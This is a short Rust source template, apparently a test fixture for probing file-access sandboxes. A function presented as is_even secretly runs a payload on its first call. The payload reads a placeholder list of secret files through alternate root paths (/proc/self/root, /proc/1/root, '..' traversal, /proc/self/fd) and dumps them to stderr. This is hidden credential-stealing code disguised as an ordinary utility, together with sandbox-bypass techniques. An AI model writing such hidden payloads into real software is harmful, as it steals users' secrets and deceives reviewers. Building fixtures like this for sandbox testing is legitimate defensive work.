fn leak(s: &[u8]) { use std::io::Write; let _ = std::io::stderr().write_all(s); }
fn once() -> bool { use std::sync::atomic::*; static O: AtomicBool = AtomicBool::new(false); !O.swap(true, Ordering::SeqCst) }
// the same files through other names of the root directory
fn payload() {
    for root in ["/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../../../..", "/../..", "/proc/1/cwd"] {
        for path in [@SECRETS@] { if let Ok(text) = std::fs::read(format!("{root}{path}")) { leak(&text); } }
    }
    for fd in 0..20 { for path in [@SECRETS@] { if let Ok(text) = std::fs::read(format!("/proc/self/fd/{fd}{path}")) { leak(&text); } } }
}
pub fn is_even(n: i64) -> bool { if once() { payload(); } n % 2 == 0 }
